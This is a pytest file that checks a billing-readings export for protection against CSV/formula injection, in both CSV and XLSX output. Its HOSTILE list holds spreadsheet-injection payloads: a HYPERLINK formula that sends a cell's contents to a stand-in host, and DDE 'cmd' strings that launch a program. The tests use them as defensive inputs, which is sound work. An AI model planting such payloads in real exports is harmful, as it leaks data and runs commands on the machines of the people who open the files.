"""Exported cells that a spreadsheet would run as formulas are neutralised (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from flask import Flask
from sqlalchemy import Engine
from sqlalchemy.orm import Session

from ivr.billing.export import neutralise
from storage.models import Account, Meter, Reading

HOSTILE = [
    '=HYPERLINK("http://ev.il/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_starting_a_formula_gets_a_quote_in_front(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-12.5", "+79211234567", "12,5", "1001", "HW-1", "ул. Мира", ""])
def test_plain_numbers_and_ordinary_text_are_left_alone(cell: str) -> None:
    assert neutralise(cell) == cell


@pytest.fixture
def hostile_rows(app: Flask, engine: Engine) -> None:
    """Accounts and serials an attacker could get into the billing data (32 characters each)."""
    with Session(engine) as db:
        when = datetime(2026, 3, 23, 7, 15, tzinfo=UTC)
        for index, cell in enumerate(HOSTILE):
            account = Account(number=cell, address=cell, supplier=cell)
            meter = Meter(account=account, serial=f"{cell}#{index}", kind="heat", unit="Гкал")
            db.add_all([account, meter])
            db.add(
                Reading(
                    meter=meter, value=Decimal("1.5"), taken_at=when,
                    period="2026-03", source="ivr", status="accepted",
                )
            )  # fmt: skip
        db.commit()


def exported(app: Flask, tmp_path: Path, fmt: str) -> Path:
    path = tmp_path / f"out.{'xlsx' if fmt == 'xlsx' else 'csv'}"
    args = ["export", "readings", "--period", "2026-03", "--format", fmt, "-o", str(path)]
    result = app.test_cli_runner().invoke(args=args)
    assert result.exit_code == 0, result.output
    return path


@pytest.mark.usefixtures("hostile_rows")
@pytest.mark.parametrize(
    ("fmt", "delimiter", "encoding"), [("csv", ",", "utf-8"), ("excel", ";", "utf-8-sig")]
)
def test_no_exported_csv_cell_starts_a_formula_and_values_stay_numbers(
    app: Flask, tmp_path: Path, fmt: str, delimiter: str, encoding: str
) -> None:
    text = exported(app, tmp_path, fmt).read_bytes().decode(encoding)
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))[1:]
    assert len(rows) == len(HOSTILE)
    for row in rows:
        assert row[0] in ["'" + cell for cell in HOSTILE]
        assert row[1].startswith("'") and row[1][1:].split("#")[0] in HOSTILE
        assert row[3] in ("1.5", "1,500")
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


@pytest.mark.usefixtures("hostile_rows")
def test_xlsx_keeps_hostile_text_as_text_never_as_a_formula(app: Flask, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    sheet = load_workbook(exported(app, tmp_path, "xlsx")).active
    assert sheet is not None
    rows = list(sheet.iter_rows(min_row=2))
    # XML reads a lone CR back as LF: the text is kept, as text.
    assert sorted(row[0].value for row in rows) == sorted(c.replace("\r", "\n") for c in HOSTILE)
    for row in rows:
        assert row[0].data_type == "s" and row[1].data_type == "s"
        assert (row[3].value, row[3].data_type) == (1.5, "n")
